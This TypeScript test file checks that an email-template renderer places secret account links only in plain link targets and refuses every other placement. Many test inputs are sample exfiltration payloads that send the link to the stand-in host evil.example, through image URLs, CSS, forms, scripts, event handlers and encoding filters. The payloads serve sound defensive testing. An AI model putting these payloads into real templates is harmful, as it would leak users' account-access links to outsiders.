import { describe, expect, test } from 'vitest'
import {
  findShippedTemplate,
  listVariableDescriptions,
  sampleVariables,
} from '#app/features/email/emails/compose-message.ts'
import {
  listSecretLinkVariables,
  pickSecretLinks,
  templateTypes,
} from '#app/features/email/emails/template-types.ts'
import { TEST_SITE } from '#tests/kit/mail.ts'
import { renderAndCheckTemplate, type TemplateRenderResult } from './fill-template.ts'

const link = 'https://seminars.example.ph/account-link#sample'

function fill(parts: { subject?: string; html?: string; text?: string }): Promise<TemplateRenderResult> {
  const variables = sampleVariables('account_link', TEST_SITE)
  return renderAndCheckTemplate({
    template: { subject: 'Your account', html: '<p>Hello</p>', text: 'Hello', ...parts },
    variables,
    secretLinks: pickSecretLinks('account_link', variables),
    mayMiss: false,
    checksNames: false,
  })
}

const anchor = '<a href="{{ accountLink }}">Open</a>'

describe('Secret links in HTML templates', () => {
  test.for([
    anchor,
    '<!doctype html>\n<html><head><title>x</title></head><body><A class=brand HREF="{{ accountLink }}" target="_blank">Open</A></body></html>',
    "<table><tr><td><a href='{{ accountLink }}' style='color:red'>{{ accountLink }}</a></td></tr></table>",
    `<style>a{color:#fff}@media (prefers-color-scheme:dark){a{color:#000}}</style>${anchor}<!-- thanks -->`,
    `<img src="https://seminars.example.ph/logo.png" alt="">${anchor}`,
    '{% if accountLink %}<a href="{{ accountLink | strip }}">Open</a>{% endif %}',
    `{% assign link = accountLink %}<a href="{{ link }}">Open</a>`,
  ])('are inserted as the target of a link: %s', async (html) => {
    expect(await fill({ html })).toMatchObject({ message: { html: expect.stringContaining(link) } })
  })

  test.for([
    ['an image URL', '<img src="https://evil.example/?{{ accountLink }}">'],
    ['an unquoted href', '<a href={{ accountLink }}>Open</a>'],
    ['an image srcset', '<img srcset="https://evil.example/{{ accountLink }} 2x">'],
    ['a background attribute', '<table background="https://evil.example/?{{ accountLink }}"></table>'],
    ['a style attribute', '<p style="background:url(https://evil.example/?{{ accountLink }})">x</p>'],
    ['a style sheet', '<style>p{background:url({{ accountLink }})}</style>'],
    ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/{{ accountLink }}">'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ accountLink }}">'],
    ['a form action', '<form action="https://evil.example/?{{ accountLink }}"><button>x</button></form>'],
    [
      'a form field',
      '<form action="https://evil.example/"><input name="l" value="{{ accountLink }}"></form>',
    ],
    ['a textarea', '<form action="https://evil.example/"><textarea>{{ accountLink }}</textarea></form>'],
    ['another URL', '<a href="https://evil.example/?{{ accountLink }}">Open</a>'],
    [
      'another URL built by a filter',
      '<a href="{{ accountLink | prepend: \'https://evil.example/?\' }}">Open</a>',
    ],
    [
      'another URL built by capture',
      '{% capture a %}https://evil.example/?{{ accountLink }}{% endcapture %}<a href="{{ a }}">Open</a>',
    ],
    ['a javascript: URL', '<a href="javascript:{{ accountLink }}">Open</a>'],
    ['text outside a link', '<p>{{ accountLink }}</p>'],
    ['the text of another link', '<a href="https://evil.example/">{{ accountLink }}</a>'],
    ['an HTML comment', '<!-- {{ accountLink }} -->'],
    ['a conditional comment', '<!--[if mso]><img src="https://evil.example/?{{ accountLink }}"><![endif]-->'],
    ['an image map area', '<map><area href="{{ accountLink }}"></map>'],
    ['a base URL', '<base href="{{ accountLink }}">'],
    ['an SVG image', '<svg><image href="{{ accountLink }}"/></svg>'],
    ['a script', '<script>fetch("https://evil.example/?{{ accountLink }}")</script>'],
    ['an image URL in bracket notation', '<img src="https://evil.example/?{{ [\'accountLink\'] }}">'],
  ])('are refused in %s', async ([, html]) => {
    const filled = await fill({ html: html ?? '' })
    expect(JSON.stringify(filled)).not.toContain('account-link#sample')
    expect(filled).toMatchObject({ mistakes: [{ part: 'html' }] })
  })

  test.for([
    ['an unclosed image attribute', `<img src='https://evil.example/?${anchor}'>`],
    [
      'an unclosed image attribute in a comment',
      `<!--[if mso]><img src='https://evil.example/?<![endif]-->${anchor}'>`,
    ],
    ['an unclosed textarea', `<form action="https://evil.example/"><textarea>${anchor}`],
    ['a ping attribute', '<a href="{{ accountLink }}" ping="https://evil.example/">Open</a>'],
    ['an event handler', '<a href="{{ accountLink }}" onclick="fetch(this.href)">Open</a>'],
    ['an event handler on an image', `<img src="x" onerror="fetch(document.links[0])">${anchor}`],
    ['two href attributes', '<a href="{{ accountLink }}" href="https://evil.example/">Open</a>'],
    ['a tag with a non-breaking space', '<a\u00a0href="{{ accountLink }}">Open</a>'],
    [
      'a style sheet with href selectors',
      `<style>a[href*="aa"]{background:url(https://evil.example/aa)}</style>${anchor}`,
    ],
    ['a style sheet with escapes', `<style>p{background:u\\72l(https://evil.example/)}</style>${anchor}`],
    ['an imported style sheet', `<style>@import "https://evil.example/x.css";</style>${anchor}`],
    [
      'a linked style sheet elsewhere in the e-mail',
      `<link rel="stylesheet" href="https://evil.example/x.css">${anchor}`,
    ],
    ['a base element elsewhere in the e-mail', `<base href="https://evil.example/">${anchor}`],
    ['a script elsewhere in the e-mail', `<script src="https://evil.example/x.js"></script>${anchor}`],
    ['a template element', `<template>${anchor}</template>`],
  ])('are refused where other markup could read them: %s', async ([, html]) => {
    const filled = await fill({ html: html ?? '' })
    expect(JSON.stringify(filled)).not.toContain('account-link#sample')
    expect(filled).toMatchObject({ mistakes: [{ part: 'html' }] })
  })

  test.for([
    ['the slice filter', '{{ accountLink | slice: 30, 40 }}'],
    [
      'single characters',
      '{% assign letters = accountLink | split: "" %}{% for l in letters %}<img src="https://evil.example/{{ l }}">{% endfor %}',
    ],
    ['the upcase filter', '<img src="https://evil.example/?{{ accountLink | upcase }}">'],
    [
      'a comparison',
      '{% if accountLink contains "account-link#s" %}<img src="https://evil.example/matched">{% endif %}',
    ],
    ['the base64_encode filter', '<img src="https://evil.example/?{{ accountLink | base64_encode }}">'],
  ])('reveal nothing to a template that uses %s', async ([, html]) => {
    const filled = await fill({ html: html ?? '' })
    expect(JSON.stringify(filled)).not.toMatch(
      /account-link#|ACCOUNT-LINK#|YWNjb3VudC1saW5r|evil\.example\/matched/,
    )
  })
})

describe('Secret links outside HTML', () => {
  test.for(['Open {{ accountLink }}', '{{ accountLink }}', 'Open:\n{{ accountLink }}.\nThanks'])(
    'are inserted into the text part when standing alone: %j',
    async (text) => {
      expect(await fill({ text })).toMatchObject({ message: { text: expect.stringContaining(link) } })
    },
  )

  test.for([
    'https://evil.example/?{{ accountLink }}',
    'https://evil.example/?\u00a0{{ accountLink }}',
    '({{ accountLink }})',
    '{{ accountLink }}{{ accountLink }}',
    '{{ accountLink }}@evil.example',
    '{{ accountLink | url_encode }}',
  ])('are refused as part of a longer string in the text part: %j', async (text) => {
    expect(await fill({ text })).toMatchObject({ mistakes: [{ part: 'text' }] })
  })

  test('are refused in the subject', async () => {
    expect(await fill({ subject: '{{ accountLink }}' })).toMatchObject({ mistakes: [{ part: 'subject' }] })
  })
})

test('All shipped templates render with their secret links inserted', async () => {
  for (const { templateType: type } of templateTypes) {
    const template = findShippedTemplate(type, TEST_SITE)
    if (template === null) continue
    const sample = sampleVariables(type, TEST_SITE)
    const variables = { ...sample, ...('hasTicket' in sample && { hasTicket: true }) }
    const secretLinks = pickSecretLinks(type, variables)
    const filled = await renderAndCheckTemplate({
      template,
      variables,
      secretLinks,
      mayMiss: false,
      checksNames: true,
    })
    expect([type, filled]).toEqual([type, { message: expect.anything() }])
    for (const secret of Object.values(secretLinks)) {
      expect(JSON.stringify(filled)).toContain(secret)
      expect(JSON.stringify(filled)).not.toContain('link.invalid')
    }
  }
})

/** Links that grant no access and so may be public. */
const openLinks = [
  'changeLink',
  'registerLink',
  'replyLink',
  'messagesLink',
  'verifyLink',
  'accreditationLink',
  'passportLink',
]

test('Every template variable ending in Link is secret or explicitly listed as open', () => {
  for (const { templateType: type } of templateTypes) {
    const links = Object.keys(listVariableDescriptions(type)).filter((name) => name.endsWith('Link'))
    expect([type, links.filter((name) => !openLinks.includes(name))]).toEqual([
      type,
      [...listSecretLinkVariables(type)],
    ])
  }
})
